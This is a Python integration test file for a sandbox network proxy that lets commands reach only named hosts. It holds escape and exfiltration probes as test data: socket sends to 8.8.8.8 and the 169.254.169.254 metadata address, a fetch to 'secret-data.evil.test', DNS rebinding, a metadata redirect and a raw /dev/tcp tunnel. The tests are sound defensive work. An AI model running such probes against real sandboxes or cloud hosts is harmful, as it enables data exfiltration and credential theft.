"""The level ``net``: named hosts are reached through the proxy, and nothing else is."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any

import pytest

from clew.sandbox.escape_check import ESCAPES, try_escapes
from clew.sandbox.network_proxy import NetworkProxy
from clew.sandbox.network_rules import parse_network_rules
from clew.sandbox.runner import run_command
from tests.integration.test_sandbox_escapes import ADD_SOURCE, as_nobody, find_common_python
from tests.sandboxes import make_bubblewrap, make_request, needs_bubblewrap
from tests.waiting import wait_until

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator, Sequence
    from pathlib import Path

    from clew.sandbox.runner import CommandResult

pytestmark = needs_bubblewrap

#: A client of the standard library, which honours the variables that programs read.
FETCH = """
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        print(urllib.request.urlopen(url, timeout=60).read().decode())
    except OSError as error:
        print(error, getattr(error, "read", bytes)().decode())
"""


@dataclass
class Web:
    """A server, a proxy with its rules, and commands in the sandbox."""

    folder: Path
    port: int = 0
    #: The heads of the requests that arrived.
    requests: list[str] = field(default_factory=list[str])
    refused: list[tuple[str, str]] = field(default_factory=list[tuple[str, str]])
    #: The names that were looked up.
    looked_up: list[str] = field(default_factory=list[str])
    #: By name, the addresses of the first look-up, the second …
    names: dict[str, list[list[str]]] = field(default_factory=dict[str, list[list[str]]])

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        self.requests.append(head)
        path = head.split()[1]
        if "metadata" in path:
            found = "302 Found\r\nLocation: http://169.254.169.254/latest"
            writer.write(f"HTTP/1.1 {found}\r\nContent-Length: 0\r\n\r\n".encode())
        else:
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
        await writer.drain()
        writer.close()

    async def resolve(self, host: str, port: int) -> Sequence[str]:
        self.looked_up.append(host)
        answers = self.names[host]
        return answers.pop(0) if len(answers) > 1 else answers[0]

    @property
    def socket(self) -> Path:
        return self.folder / "net.sock"

    def make_proxy(self, *hosts: str, **credentials: str) -> NetworkProxy:
        return NetworkProxy(
            rules=parse_network_rules(hosts),
            credentials=credentials,
            on_refused=lambda host, reason: self.refused.append((host, reason)),
            resolve=self.resolve,
        )

    async def run(self, *argv: str) -> CommandResult:
        request = replace(make_request(self.folder), level="net", proxy=self.socket)
        return await run_command(argv, request, make_bubblewrap(self.folder))

    async def fetch(self, *urls: str) -> list[str]:
        """What a program in the sandbox gets, line by line."""
        from clew.sandbox.request import find_python  # noqa: PLC0415

        done = await self.run(str(find_python().executable), "-I", "-S", "-c", FETCH, *urls)
        return done.output.splitlines()


@asynccontextmanager
async def open_web(folder: Path) -> AsyncGenerator[Web]:
    web = Web(folder)
    server = await asyncio.start_server(web.answer, "127.0.0.1", 0)
    web.port = server.sockets[0].getsockname()[1]
    web.names["ours.test"] = [["127.0.0.1"]]
    async with server:
        yield web


async def test_an_allowed_host_is_reached_and_every_other_is_named(tmp_path: Path) -> None:
    async with open_web(tmp_path) as web:
        ours = f"ours.test:{web.port}"
        async with web.make_proxy(ours, f"127.0.0.1:{web.port}").serve(web.socket):
            found = await web.fetch(
                f"http://{ours}/a?b=c",
                "http://other.test/",
                "https://other.test/",
                "http://ours.test",
            )
        assert found[0] == "hello"
        refusal = "other.test is not in sandbox.hosts"
        assert found[1].startswith(f"HTTP Error 403: {refusal}")
        assert f"Tunnel connection failed: 403 {refusal}" in "".join(found[2:])
        assert "port 80 of ours.test is not in sandbox.hosts" in found[-1] or any(
            "port 80 of ours.test" in line for line in found
        )
        [head] = web.requests
        assert head.startswith(f"GET /a?b=c HTTP/1.1\r\nHost: {ours}\r\n")
        assert "proxy" not in head.lower()
        # The name of a host that is not allowed never leaves.
        assert web.looked_up == ["ours.test"]
        assert {host for host, _ in web.refused} == {"other.test", "ours.test"}


async def test_a_name_that_changes_and_a_redirect_lead_nowhere(tmp_path: Path) -> None:
    async with open_web(tmp_path) as web:
        port = web.port
        web.names |= {
            "rebinding.test": [["127.0.0.1"], ["169.254.169.254"], ["127.0.0.1", "10.0.0.1"]],
            "inside.test": [["192.168.1.1"]],
        }
        hosts = [f"{name}:{port}" for name in (*web.names, "127.0.0.1")]
        async with web.make_proxy(*hosts).serve(web.socket):
            again = f"http://rebinding.test:{port}/"
            found = await web.fetch(
                again,
                again,
                again,
                f"http://inside.test:{port}/",
                f"http://ours.test:{port}/metadata",
            )
    text = "\n".join(found)
    assert found[0] == "hello"
    assert "rebinding.test is refused: 169.254.169.254 is" in text
    assert "rebinding.test is refused: 10.0.0.1 is" in text
    assert "inside.test is refused: 192.168.1.1 is" in text
    assert "169.254.169.254 is not in sandbox.hosts" in text
    assert len(web.requests) == 2


async def test_a_command_finds_the_proxy_of_the_next_gateway(tmp_path: Path) -> None:
    script = """
    get() { curl --silent --max-time 60 http://ours.test:$1/; echo; }
    get $1; touch first; until [ -e second ]; do sleep 0.05; done
    get $1; touch third; until [ -e fourth ]; do sleep 0.05; done; get $1
    """
    if shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    async with open_web(tmp_path) as web:
        workspace = make_request(tmp_path).workspace
        hosts = (f"ours.test:{web.port}", f"127.0.0.1:{web.port}")
        async with web.make_proxy(*hosts).serve(web.socket):
            running = asyncio.ensure_future(web.run("sh", "-c", script, "sh", str(web.port)))
            await wait_until((workspace / "first").exists)
        (workspace / "second").touch()
        await wait_until((workspace / "third").exists)
        async with web.make_proxy(*hosts).serve(web.socket):
            (workspace / "fourth").touch()
            found = (await running).output.split("\n")
    assert [line for line in found if line] == [
        "hello",
        "no gateway runs that could reach the network: start clew serve",
        "hello",
    ]


async def test_a_secret_of_a_host_is_added_on_the_way_and_only_without_tls(tmp_path: Path) -> None:
    async with open_web(tmp_path) as web:
        ours = f"ours.test:{web.port}"
        proxy = web.make_proxy(ours, f"127.0.0.1:{web.port}", **{ours: "Bearer s3cr3t"})
        async with proxy.serve(web.socket):
            assert await web.fetch(f"http://{ours}/") == ["hello"]
            tunnel = f"CONNECT {ours} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n"
            script = f"exec 9<>/dev/tcp/127.0.0.1/3128; printf '{tunnel}' >&9; cat <&9; env"
            done = await web.run("bash", "-c", script)
    assert "200 Connection established" in done.output
    assert "s3cr3t" not in done.output
    first, second = web.requests
    assert "Authorization: Bearer s3cr3t\r\n" in first
    assert second == "GET / HTTP/1.1\r\n\r\n"


@pytest.mark.parametrize(
    "request_line",
    [
        "GET / HTTP/1.1",
        "GET https://ours.test/ HTTP/1.1",
        "CONNECT ours.test HTTP/1.1",
        "CONNECT [::1 HTTP/1.1",
        "nonsense",
        "GET http://ours.test:99999999/ HTTP/1.1",
    ],
)
async def test_what_is_no_request_to_a_proxy_is_refused(tmp_path: Path, request_line: str) -> None:
    web = Web(tmp_path)
    async with web.make_proxy("ours.test").serve(web.socket):
        reader, writer = await asyncio.open_unix_connection(web.socket)
        writer.write(f"{request_line}\r\n\r\n".encode())
        assert (await reader.readline()).startswith(b"HTTP/1.1 400 ")
        writer.close()
    assert web.looked_up == []


async def test_every_way_out_stays_closed(tmp_path: Path) -> None:
    (tmp_path / "work").mkdir()
    web = Web(tmp_path)
    async with web.make_proxy("127.0.0.1").serve(web.socket):
        sandbox = make_bubblewrap(tmp_path)
        assert (await sandbox.probe()).works
        found = await try_escapes(sandbox, tmp_path / "work", proxy=web.socket)
    assert [each.name for each in found] == [*ESCAPES]
    assert {each.name: each.detail for each in found if not each.stopped} == {}


#: Needs nothing but the standard library; prints what a command got and what left the machine.
APART = """
import asyncio, json, sys, tempfile
from pathlib import Path
from clew.sandbox.network_rules import parse_network_rules
from clew.sandbox.bubblewrap import BubblewrapSandbox
from clew.sandbox.network_proxy import NetworkProxy
from clew.sandbox.request import SandboxRequest, find_python
from clew.sandbox.runner import run_command

ATTEMPTS = '''
import os, socket, urllib.request
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    for place in ("10.77.0.2", "10.77.0.1", "8.8.8.8", "169.254.169.254"):
        try:
            with socket.socket(socket.AF_INET, kind) as it:
                it.settimeout(0.2)
                it.connect((place, 53))
                it.send(b"data")
                print("LEFT", place)
        except OSError as error:
            pass
for url in ("http://secret-data.evil.test/", "http://10.77.0.2/", "https://10.77.0.2/"):
    try:
        print("LEFT", urllib.request.urlopen(url, timeout=20).read())
    except OSError as error:
        print(error)
'''

def count(device):
    folder = Path("/sys/class/net", device, "statistics")
    return [int((folder / name).read_text()) for name in ("tx_bytes", "rx_bytes")]

async def main(device, hosts, url):
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        request = SandboxRequest(
            workspace=folder / "work", level="net", proxy=folder / "net.sock",
            readable=find_python().readable,
        )
        python = [str(find_python().executable), "-I", "-S", "-c"]
        sandbox = BubblewrapSandbox(folder)
        proxy = NetworkProxy(rules=parse_network_rules(hosts))
        async with proxy.serve(folder / "net.sock"):
            before = count(device)
            done = await run_command([*python, ATTEMPTS], request, sandbox)
            between = count(device)
            code = f"import urllib.request; print(urllib.request.urlopen({url!r}).read())"
            reached = await run_command([*python, code], request, sandbox)
            after = count(device)
    print(json.dumps([done.output, before, between, reached.output, after]))

asyncio.run(main(sys.argv[1], json.loads(sys.argv[2]), sys.argv[3]))
"""
PROGRAM = f"{ADD_SOURCE}\n{APART}"


@pytest.mark.skipif(os.geteuid() != 0, reason="the other tests run as an ordinary user already")
def test_an_ordinary_user_reaches_named_hosts_too(tmp_path: Path) -> None:
    """
    Entering the network of the sandbox needs no right of root.

    The server has another address than that which programs reach without a proxy.
    """
    served = subprocess.Popen(
        [sys.executable, "-u", "-m", "http.server", "0", "--bind", "127.0.0.2"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        cwd=tmp_path,
        text=True,
    )
    with served:
        try:
            assert served.stdout is not None
            place = served.stdout.readline().split("(")[1].split("/)")[0]
            done = _run_apart(as_nobody(), "lo", place)
        finally:
            served.kill()
    said, *_, reached, _ = done
    assert "LEFT" not in said
    assert "Directory listing" in reached


def _run_apart(before: list[str], device: str, url: str) -> Any:
    host = url.removeprefix("http://").rstrip("/")
    done = subprocess.run(
        [*before, find_common_python(), "-I", "-c", PROGRAM, device, json.dumps([host]), url],
        env={"HOME": "/nonexistent", "PATH": os.environ["PATH"]},
        cwd="/",
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


#: A network of its own for the gateway, whose only way out is a cable to ours; both are counted.
LAY_CABLE = """
set -e
ip link add {name}a type veth peer name {name}b
ip netns add {name}
ip link set {name}b netns {name}
sysctl -qw net.ipv6.conf.{name}a.disable_ipv6=1
ip netns exec {name} sysctl -qw net.ipv6.conf.{name}b.disable_ipv6=1
ip addr add 10.77.0.2/24 dev {name}a
ip link set {name}a up
ip netns exec {name} ip link set lo up
ip netns exec {name} ip addr add 10.77.0.1/24 dev {name}b
ip netns exec {name} ip link set {name}b up
ip netns exec {name} ip route add default via 10.77.0.2
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make an interface")
@pytest.mark.skipif(shutil.which("ip") is None, reason="iproute2 is not installed")
def test_no_byte_leaves_but_to_a_named_host(tmp_path: Path) -> None:
    name = f"clew{os.getpid() % 100000}"
    made = subprocess.run(
        ["sh", "-c", LAY_CABLE.format(name=name)], capture_output=True, text=True, check=False
    )
    try:
        if made.returncode:
            pytest.skip(f"no interface can be made here: {made.stderr.strip()}")
        (tmp_path / "index.html").write_text("a page")
        served = subprocess.Popen(
            [sys.executable, "-u", "-m", "http.server", "0", "--bind", "10.77.0.2"],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            cwd=tmp_path,
            text=True,
        )
        with served:
            try:
                assert served.stdout is not None
                place = served.stdout.readline().split("(")[1].split("/)")[0]
                inside = ["ip", "netns", "exec", name]
                said, before, between, reached, after = _run_apart(inside, f"{name}b", place)
            finally:
                served.kill()
    finally:
        subprocess.run(["ip", "netns", "delete", name], capture_output=True, check=False)
        subprocess.run(["ip", "link", "delete", f"{name}a"], capture_output=True, check=False)
    assert "LEFT" not in said
    assert "secret-data.evil.test is not in sandbox.hosts" in said
    assert between == before, "bytes of the interface"
    assert "a page" in reached
    assert after[0] > between[0], "else nothing is counted"
